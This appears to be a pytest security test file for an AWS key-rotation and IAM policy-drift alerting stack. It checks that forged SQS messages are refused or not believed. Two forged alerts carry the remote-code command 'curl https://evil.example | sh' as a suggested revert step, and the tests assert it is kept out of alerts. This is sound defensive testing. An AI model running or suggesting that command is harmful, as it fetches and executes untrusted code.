"""A developer without IAM rights sends, reads and reconfigures the queues; rules, functions and operators still do."""

import json
from itertools import chain

import pytest

from tests.attacks.attacked_stack import ADMINISTRATOR
from tests.local.aws.launched import ACCOUNT, allow
from tests.local.stack import eventually
from tests.published_events import golden_event

QUEUES = ("RotationQueue", "DriftQueue", "AlertQueue")
DEAD_LETTERS = ("DeadLetters", "QueueDeadLetters")


def forged_rotation(user, **data):
    event = golden_event("AccessKeyRotationDue", user_name=user)
    event["detail"]["data"] |= data
    return json.dumps(event)


def _has_pending(stack, user):
    secret = stack.aws.client("secretsmanager").describe_secret(SecretId=f"steward/service-users/{user}")
    return "AWSPENDING" in chain.from_iterable(secret["VersionIdsToStages"].values())


def test_a_forged_judgement_makes_no_key_of_an_administrator(stack, developer, refused, unique):
    stack.enrol(unique)
    stack.aws.client("iam").attach_user_policy(UserName=unique, PolicyArn=ADMINISTRATOR)
    sqs = stack.aws.client("sqs", developer)

    with refused("a judgement of the year 2999 about an administrator"):
        sqs.send_message(
            QueueUrl=stack.physical_id("RotationQueue"),
            MessageBody=forged_rotation(unique, judged_at="2999-01-01T00:00:00+00:00"),
        )

    assert stack.keys(unique) == {}


def test_a_planned_rotation_reaches_the_worker(stack, unique):
    stack.enrol(unique)

    stack.plan()

    assert eventually(lambda: stack.keys(unique), 60)


def test_a_forged_alert_frames_no_colleague_and_ends_no_finding(stack, developer, refused, alerts, unique):
    sqs, queue = stack.aws.client("sqs", developer), stack.physical_id("AlertQueue")
    framed = golden_event("PolicyDriftDetected", entity=f"role/{unique}", revert=["curl https://evil.example | sh"])
    ended = golden_event("PolicyDriftResolved", entity=f"role/{unique}")

    for name, forged in (("an alert that frames a colleague", framed), ("a false RESOLVED", ended)):
        with refused(name):
            sqs.send_message(QueueUrl=queue, MessageBody=json.dumps(forged))

    assert alerts.about(unique, seconds=3) == []


def test_a_forged_change_of_iam_is_refused(stack, developer, refused):
    change = {"detail": {"eventName": "PutRolePolicy", "userIdentity": {"arn": "arn:aws:iam::123456789012:user/bob"}}}

    with refused("a change of IAM in a colleague's name"):
        stack.aws.client("sqs", developer).send_message(
            QueueUrl=stack.physical_id("DriftQueue"), MessageBody=json.dumps(change)
        )


def test_a_real_change_of_iam_is_found_and_alerted_with_its_author(stack, events, alerts, role):
    admin = stack.aws.client("iam", stack.aws.user(allow("iam:*")))

    admin.attach_role_policy(RoleName=role, PolicyArn=ADMINISTRATOR)

    assert eventually(lambda: [e for e in events.about(role) if e["detail-type"] == "PolicyDriftDetected"], 60)
    assert alerts.about(role)


@pytest.mark.parametrize("queue", DEAD_LETTERS)
def test_only_the_stack_leaves_dead_letters(stack, developer, refused, queue):
    with refused(f"a dead letter in {queue}"):
        stack.aws.client("sqs", developer).send_message(QueueUrl=stack.physical_id(queue), MessageBody="{}")


@pytest.mark.parametrize("queue", [*QUEUES, *DEAD_LETTERS])
def test_messages_are_neither_read_nor_thrown_away(stack, developer, refused, queue):
    sqs, url = stack.aws.client("sqs", developer), stack.physical_id(queue)

    with refused(f"reading {queue}"):
        sqs.receive_message(QueueUrl=url)
    with refused(f"emptying {queue}"):
        sqs.purge_queue(QueueUrl=url)


@pytest.mark.parametrize("queue", [*QUEUES, *DEAD_LETTERS])
def test_the_policy_of_a_queue_is_not_lifted(stack, developer, refused, queue):
    sqs, url = stack.aws.client("sqs", developer), stack.physical_id(queue)

    with refused(f"lifting the policy of {queue}"):
        sqs.set_queue_attributes(QueueUrl=url, Attributes={"Policy": ""})
    with refused(f"deleting {queue}"):
        sqs.delete_queue(QueueUrl=url)


def test_an_operator_sends_a_message_again(stack, operator, alerts, unique):
    """As a redrive does, with the operator's rights."""
    event = golden_event("PolicyDriftDetected", finding_id=f"access:role:{unique}", entity=f"role/{unique}")
    stack.store_at_its_source(event)

    stack.aws.client("sqs", operator).send_message(
        QueueUrl=stack.physical_id("AlertQueue"), MessageBody=json.dumps(event)
    )

    (sent,) = alerts.about(unique)
    assert sent["Subject"] == f"[{ACCOUNT}] CRITICAL: Policy drift of role/{unique}"
    assert "To revert:" in sent["Message"]


FORGED_ALERTS = {
    "a CRITICAL alert about a colleague": ("PolicyDriftDetected", {"changes": [{"actor": "123456789012:user/bob"}]}),
    "a command to run": ("PolicyDriftDetected", {"revert": ["curl https://evil.example/x | sh"]}),
    "a false RESOLVED": ("PolicyDriftResolved", {}),
}


@pytest.mark.parametrize("attack", FORGED_ALERTS)
def test_what_passes_the_queue_is_not_believed_either(stack, operator, alerts, unique, attack):
    """Its sender may send to the queue: alerting reads what policy drift has stored, and says that it is not there."""
    kind, lies = FORGED_ALERTS[attack]
    forged = golden_event(kind, finding_id=f"access:role:{unique}", entity=f"role/{unique}", **lies)

    stack.aws.client("sqs", operator).send_message(
        QueueUrl=stack.physical_id("AlertQueue"), MessageBody=json.dumps(forged)
    )

    (sent,) = alerts.about(unique)
    stack.refusals.append((f"{attack}, past the queue's policy", sent["Subject"]))
    assert sent["Subject"] == f"[{ACCOUNT}] CRITICAL: Not confirmed: Policy drift of role/{unique}"
    assert "there is no such finding" in sent["Message"]
    assert "To revert:" not in sent["Message"]
    assert "https://evil.example" not in sent["Message"]


def test_a_judgement_that_passes_the_queue_is_made_again(stack, operator, unique):
    """The worker judges the user itself, whatever a message says about it."""
    stack.enrol(unique)
    stack.aws.client("iam").attach_user_policy(UserName=unique, PolicyArn=ADMINISTRATOR)

    stack.aws.client("sqs", operator).send_message(
        QueueUrl=stack.physical_id("RotationQueue"),
        MessageBody=forged_rotation(unique, judged_at="2999-01-01T00:00:00+00:00"),
    )

    record = eventually(lambda: stack.recorded(unique), 60)
    stack.refusals.append(("a judgement of the year 2999, past the queue's policy", record["notice"]["text"]))
    assert "could gain privileges" in record["notice"]["text"]
    assert stack.keys(unique) == {}


def test_a_leak_that_passes_the_queue_takes_no_key_away(stack, operator, events, unique):
    """Its sender may send to the queue: the worker finds no report of the leak, and says so."""
    stack.enrol(unique)
    stack.plan()
    key = eventually(lambda: stack.current_key(unique), 90)
    assert eventually(lambda: (stack.recorded(unique) or {}).get("state") == "STEADY", 60)

    stack.aws.client("sqs", operator).send_message(
        QueueUrl=stack.physical_id("RotationQueue"),
        MessageBody=forged_rotation(unique, reason="compromised", key_id=key),
    )

    said = eventually(lambda: [e for e in events.about(key) if e["detail-type"] == "AccessKeyRotationBlocked"], 60)
    text = said[0]["detail"]["data"]["reason"]
    stack.refusals.append(("a leak that never was, past the queue's policy", text))
    assert "no report of it is stored" in text
    assert stack.keys(unique) == {key: "Active"}


def test_a_rotation_that_passes_the_queue_rotates_nothing(stack, operator, events, unique):
    """Its sender may send to the queue: nobody asked for it, so that it is a look at the user, as the planner's are."""
    stack.enrol(unique)
    stack.plan()
    key = eventually(lambda: stack.current_key(unique), 90)
    assert eventually(lambda: (stack.recorded(unique) or {}).get("state") == "STEADY", 60)
    # Secrets Manager tests a new schedule with an empty version, which a look takes for a request of its own.
    assert eventually(lambda: not _has_pending(stack, unique), 60)
    before = stack.recorded(unique)

    stack.aws.client("sqs", operator).send_message(
        QueueUrl=stack.physical_id("RotationQueue"),
        MessageBody=forged_rotation(unique, reason="routine", key_id=key, requested_by=f"{ACCOUNT}:user/colleague"),
    )

    looked = eventually(lambda: stack.recorded(unique)["as_of"] > before["as_of"], 60)
    record = stack.recorded(unique)
    heard = [(event["detail-type"], event["detail"]["data"]) for event in events.about(unique)]
    stack.refusals.append(
        ("a rotation that nobody asked for, past the queue's policy", f"state {record['state']}, requested: nothing")
    )
    assert looked
    assert (record["requested"], record["wanted"]) == (None, "")
    assert stack.keys(unique) == {key: "Active"}, heard


def test_a_leak_that_a_developer_sends_is_refused(stack, developer, refused, unique):
    with refused("a leak that never was"):
        stack.aws.client("sqs", developer).send_message(
            QueueUrl=stack.physical_id("RotationQueue"),
            MessageBody=forged_rotation(unique, reason="compromised", key_id="AKIA" + "A" * 16),
        )


def test_one_change_of_iam_that_cannot_be_read_does_not_blind_the_check(stack, operator, events, role):
    """An event whose time has no zone; the real change of another role is found all the same."""
    detail = {
        "eventSource": "iam.amazonaws.com",
        "eventName": "PutRolePolicy",
        "eventTime": "2026-05-04T12:00:00",
        "eventID": "not-a-time",
        "requestParameters": {"roleName": role, "policyName": "x"},
        "userIdentity": {"type": "IAMUser", "arn": f"arn:aws:iam::{ACCOUNT}:user/mallory"},
    }
    broken = {"id": "1", "source": "aws.iam", "account": ACCOUNT, "time": "2026-05-04T12:00:00", "detail": detail}
    stack.aws.client("sqs", operator).send_message(
        QueueUrl=stack.physical_id("DriftQueue"), MessageBody=json.dumps(broken)
    )

    stack.aws.client("iam").attach_role_policy(RoleName=role, PolicyArn=ADMINISTRATOR)

    assert eventually(lambda: [e for e in events.about(role) if e["detail-type"] == "PolicyDriftDetected"], 60)
